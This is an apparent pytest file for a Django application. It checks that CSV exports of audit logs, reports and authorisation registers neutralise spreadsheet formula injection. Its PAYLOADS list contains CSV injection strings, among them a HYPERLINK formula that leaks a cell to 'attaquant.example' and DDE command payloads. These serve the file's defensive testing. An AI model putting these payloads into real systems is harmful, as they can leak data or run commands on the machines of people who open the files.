"""CSV injection: what a visitor types must never run as a formula in the DPO's spreadsheet.

Each test acts as the attacker does: a user name, a description or a decision reference that
begins like a formula goes in through the ordinary pages; the CSV the DPO or the room downloads
must hold it inert, and the audit trail's CSV must still let anyone recompute every hash.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime

import pytest
from django.test import Client
from django.utils import timezone

from audit.chain import HASHED_FIELDS, event_hash
from audit.models import AuditEvent
from csu.lib.csvfile import neutralise, restore
from operations import services
from operations.models import Category, Signalement
from tests.factories import HabilitationFactory, UserFactory

pytestmark = pytest.mark.django_db

#: What an attacker types where a name or a label is expected.
PAYLOADS = [
    '=HYPERLINK("https://attaquant.example/?v="&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def _assert_inert(cells: list[list[str]]) -> None:
    """No cell a spreadsheet would evaluate: starting like a formula, and not a plain number."""
    for row in cells:
        for cell in row:
            runnable = cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(
                r"[+-]?\d+(?:[.,]\d+)?", cell
            )
            assert not runnable, cell


def _download(response) -> bytes:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.parametrize("payload", PAYLOADS[:4])  # the sign-in form strips tabs and CRs
def test_failed_sign_in_with_a_formula_user_name_is_inert_in_the_audit_csv(payload, dpo, signed_in):
    Client().post("/comptes/login/", {"username": payload, "password": "nimporte-quoi"})
    assert AuditEvent.objects.filter(action="auth.login_failed", target_label=payload).exists()

    body = _download(signed_in(dpo).get("/audit/export.csv", {"action": "auth.login_failed"}))
    cells = _cells(body)
    _assert_inert(cells)
    assert any("'" + payload in row for row in cells), "the failed sign-in is missing"


def test_audit_csv_hash_is_recomputable_for_a_formula_user_name(dpo, signed_in):
    """The header says how to undo the apostrophe; following it gives back every hash."""
    payload = '=HYPERLINK("https://attaquant.example";"x")'
    Client().post("/comptes/login/", {"username": payload, "password": "nimporte-quoi"})
    event = AuditEvent.objects.get(action="auth.login_failed", target_label=payload)

    body = _download(signed_in(dpo).get("/audit/export.csv"))
    text = body.decode("utf-8")[1:]
    comment, rest = text.split("\r\n", 1)
    assert comment.startswith("# ") and "apostrophe" in comment
    assert all(name in comment for name in HASHED_FIELDS)
    rows = list(csv.DictReader(io.StringIO(rest), delimiter=";"))
    row = next(r for r in rows if int(r["seq"]) == event.seq)
    assert row["target_label"] == "'" + payload  # inert in the file

    def recompute(raw: dict[str, str]) -> str:
        # What the comment line says: drop the leading apostrophe, then hash the fields.
        value = {name: restore(cell) for name, cell in raw.items()}
        fields = {
            "seq": int(value["seq"]),
            "occurred_at": datetime.fromisoformat(value["occurred_at_utc"]),
            "actor_id": int(value["actor_id"]) if value["actor_id"] else None,
            "ip": value["ip"] or None,
            "details": json.loads(value["details"]),
            **{
                name: value[name]
                for name in HASHED_FIELDS
                if name not in ("seq", "occurred_at", "actor_id", "ip", "details")
            },
        }
        return event_hash(restore(raw["prev_hash"]), fields)

    assert recompute(row) == row["hash"] == event.hash
    for other in rows:  # every event of the export, not only the attacker's
        assert recompute(other) == other["hash"], other["seq"]


def test_formula_in_a_signalement_is_inert_in_the_room_csv(operator, signed_in):
    client = signed_in(operator)
    for payload in PAYLOADS:
        services.signalement_create(
            actor=operator,
            category=Category.OTHER,
            purpose="batiments_publics",
            occurred_at=timezone.now(),
            location=payload,
            description=payload,
        )
    cells = _cells(_download(client.get("/exploitation/signalements/", {"format": "csv"})))
    _assert_inert(cells)
    stored = set(Signalement.objects.values_list("description", flat=True))
    assert {p.strip() for p in PAYLOADS} <= {s.strip() for s in stored}
    assert {"'" + s for s in stored} == {row[5] for row in cells[1:]}


def test_formula_in_a_habilitation_is_inert_in_the_register_csv(dpo, signed_in):
    holder = UserFactory(role="operator", first_name="=1+1", last_name="@A1")
    HabilitationFactory(user=holder, decision_reference=PAYLOADS[0], issuer=PAYLOADS[3])
    body = _download(signed_in(dpo).get("/conformite/registres/habilitations/", {"format": "csv"}))
    cells = _cells(body)
    _assert_inert(cells)
    [row] = [r for r in cells if "'" + PAYLOADS[0] in r]
    assert "'" + PAYLOADS[3] in row


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("'=1+1", "''=1+1"),  # an apostrophe already there gets one more: reversible
        ("'déjà cité", "''déjà cité"),
        ("-3", "-3"),  # plain numbers are not formulas
        ("+2,5", "+2,5"),
        ("-", "'-"),
        ("Avenue de Lyon", "Avenue de Lyon"),
        (None, ""),
        (42, "42"),
    ],
)
def test_neutralisation_is_reversible(value, written):
    assert neutralise(value) == written
    assert restore(written) == ("" if value is None else str(value))
